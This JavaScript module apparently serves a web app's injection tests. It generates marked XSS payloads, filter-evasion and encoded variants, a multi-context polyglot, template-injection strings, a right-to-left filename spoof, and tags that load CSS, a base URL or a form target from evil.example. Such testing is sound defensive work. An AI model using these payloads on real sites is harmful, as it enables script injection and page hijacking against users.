/**
 * Text that would run, load or restyle something wherever it is taken for anything but text. Every string holds the mark
 * of the place it was planted in, so that it is found again on a page, and a script that runs says where it came from.
 */
const STRINGS = [
  (m) => `<script>lqRan('${m}')</script>`,
  (m) => `<img src=x onerror=lqRan('${m}')>`,
  (m) => `"><svg onload=lqRan('${m}')>`,
  (m) => `' onmouseover='lqRan("${m}")' x='`,
  (m) => `javascript:lqRan('${m}')`,
  (m) => `<a href="jAvAsCrIpT:lqRan('${m}')">x</a>`,
  (m) => `<iframe srcdoc="<script>parent.lqRan('${m}')</script>">`,
  (m) => `<svg><animate onbegin=lqRan('${m}') attributeName=x>`,
  (m) => `<details open ontoggle=lqRan('${m}')>`,
  (m) => `<input autofocus onfocus=lqRan('${m}')>`,
  (m) => `</textarea></title><script>lqRan('${m}')</script>`,
  (m) => `<scr<script>ipt>lqRan('${m}')</scr</script>ipt>`,
  (m) => `<math><mtext><style><img src=x onerror=lqRan('${m}')>`,
  (m) => `<!--><img src=x onerror=lqRan('${m}')>-->`,
  (m) => `<link rel=stylesheet href=//evil.example/${m}.css>`,
  (m) => `<style>@import '//evil.example/${m}'</style>`,
  (m) => `<base href=//evil.example/${m}/>`,
  (m) => `<form action=//evil.example/${m}><button>x`,
  (m) => `<object data="data:text/html,${m}">`,
  (m) => `data:text/html,<script>lqRan('${m}')</script>`,
  (m) => `{{constructor.constructor("lqRan('${m}')")()}}`,
  (m) => `\${lqRan('${m}')} #{lqRan('${m}')} <%= lqRan('${m}') %>`,
  (m) => `$t(common.save) {{count}} %s {0} ${m}`,
  (m) => `[x](javascript:lqRan('${m}')) ![x](//evil.example/${m})`,
  (m) => `**${m}** \`x\` <b>y</b> | # z`,
  (m) => `＜script＞lqRan('${m}')＜/script＞ ﹤x﹥`,
  (m) => `&lt;script&gt;lqRan('${m}')&lt;/script&gt; &#60;x`,
  (m) => `%3Cscript%3ElqRan('${m}')%3C/script%3E`,
  (m) => `\\u003cscript\\u003elqRan('${m}')\\x3c/script\\x3e`,
  (m) => `expression(lqRan('${m}'));color:red;background:url(//evil.example/)`,
  (m) => `__proto__ constructor toString ${m}`,
  (m) => `ad\u200bmin \u{1D49C} e\u0301 ${m}`,
]

/** Breaks out of attributes, of scripts, of styles, of titles and of comments, all at once. */
const EVERY_WAY = (m) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=lqRan('${m}') )//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/oNloAd=lqRan('${m}')//><img src=x onerror=lqRan('${m}')>`

/** What turns the direction of reading is no part of a name, and no part of a value either. */
export const TURNED = '\u202efdp.exe'

/** Of this run only: a server that serves on holds those of the runs before. */
export const RUN = Date.now().toString(36).slice(-4)

const kept = new Map()
const places = []

const note = (place, mark, text) => {
  if (!kept.has(place)) kept.set(place, new Map())
  kept.get(place).set(mark, text)
  return text
}

/** Marks are letters and digits, so that no escaping, searching or naming changes them. */
const markOf = (place, number) => {
  if (!places.includes(place)) places.push(place)
  return `zq${RUN}q${places.indexOf(place)}x${number}z`
}

/** Every string of the corpus that fits a place with room for many, or the first of them. */
export const many = (place, { count = STRINGS.length, longest = 200 } = {}) =>
  STRINGS.map((make, number) => [markOf(place, number), make(markOf(place, number)).normalize('NFC')])
    .filter(([, text]) => text.length <= longest).slice(0, count)
    .map(([mark, text]) => note(place, mark, text))

/** One string for a place that has one name: every way out of where it stands. */
let spare = 0
export const one = (place) => {
  const mark = markOf(place, `p${(spare += 1)}`)
  return note(place, mark, EVERY_WAY(mark))
}

/** The same where nobody reads it: it may run nothing all the same. */
export const unread = (place) => EVERY_WAY(markOf(place, 'u'))

/** The mark in a string. */
export const markIn = (text) => text.match(/zq\w+z/)[0]

/** What the server kept of a string, where a text of this kind is not kept as it was sent; null is nothing that could be found again. */
export const keptAs = (place, text, instead) => (instead === null ? kept.get(place).delete(markIn(text)) : kept.get(place).set(markIn(text), instead))

/** A label in both languages. */
export const label = (text) => ({ zh: text, en: text })

/** Place → mark → the text that must be read on a page. */
export const planted = kept
